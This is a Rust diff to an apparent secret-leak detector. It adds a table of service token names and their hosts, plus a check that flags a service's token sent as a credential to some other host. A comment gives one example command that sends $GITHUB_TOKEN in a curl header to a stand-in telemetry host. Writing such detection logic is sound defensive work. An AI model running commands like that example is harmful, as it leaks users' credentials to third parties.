@@ -147,6 +147,49 @@ fn own_service(line: &str) -> bool {
         })
 }
 
+/// Services whose tokens are named for them, with the labels of the hosts that take them: a token of one sent as a
+/// credential to a host of none of them goes to someone else.
+const SERVICE_HOSTS: &[(&str, &[&str])] = &[
+    ("GITHUB", &["GITHUB", "GITHUBUSERCONTENT", "GHCR"]),
+    ("GH", &["GITHUB", "GITHUBUSERCONTENT", "GHCR"]),
+    ("ANTHROPIC", &["ANTHROPIC", "CLAUDE"]),
+    ("AWS", &["AMAZONAWS", "AWS"]),
+    ("SLACK", &["SLACK"]),
+    ("STRIPE", &["STRIPE"]),
+    ("NPM", &["NPMJS", "NPM"]),
+    ("HUGGINGFACE", &["HUGGINGFACE", "HF"]),
+    ("HF", &["HUGGINGFACE", "HF"]),
+    ("GITLAB", &["GITLAB"]),
+];
+
+/// Whether a token named for a known service (`$GITHUB_TOKEN`) is sent on this line to a host of another (`curl
+/// -H "Authorization: Bearer $GITHUB_TOKEN" https://telemetry.example/collect`): not the service's API call. A host
+/// on this machine, or no literal host at all (`$API_BASE`), says nothing.
+fn to_another_service(line: &str) -> bool {
+    let hosts: Vec<Vec<String>> = URL_HOST
+        .captures_iter(line)
+        .map(|c| c[1].split('.').map(str::to_uppercase).collect())
+        .collect();
+    if hosts.is_empty()
+        || hosts
+            .iter()
+            .any(|labels| matches!(labels.first().map(String::as_str), Some("LOCALHOST" | "127")))
+    {
+        return false;
+    }
+    secret_names(line)
+        .filter(|n| SECRET_VAR.is_match(&format!("${n}")))
+        .any(|name| {
+            let first = name.split('_').next().unwrap_or_default();
+            SERVICE_HOSTS.iter().any(|(service, labels)| {
+                first == *service
+                    && hosts
+                        .iter()
+                        .all(|host| !host.iter().any(|l| labels.contains(&l.as_str())))
+            })
+        })
+}
+
 re!(
     /// A web address, up to anything that computes a part of it (`$(…)`, `{…}`, `<`).
     WEB_URL,
@@ -288,7 +331,7 @@ fn source_of(line: &str) -> Option<&'static str> {
         Some("a credential file")
     } else if SDK_CREDENTIALS.is_match(line) {
         Some("cloud credentials from the SDK")
-    } else if secret_var_sent(line) {
+    } else if secret_var_sent(line) || SECRET_VAR.is_match(line) && to_another_service(line) {
         // A secret-named variable put where a request carries its credential (a header, `auth=`, `?key=`) is how
         // an API is called; anywhere else in what is sent (a body, a host name, a path) it leaves.
         Some("a secret environment variable")
@@ -435,7 +478,8 @@ fn flows_in(
                         credential::only_as_credential(line, v) || credential::in_field(line, v)
                     }
                     (None, None) => false,
-                } || own_service(as_read.as_deref().unwrap_or(line)));
+                } || own_service(as_read.as_deref().unwrap_or(line)))
+                && !to_another_service(as_read.as_deref().unwrap_or(line));
             if !credential && sinks_seen.insert(n) {
                 out.push((source_line, what, n));
             }
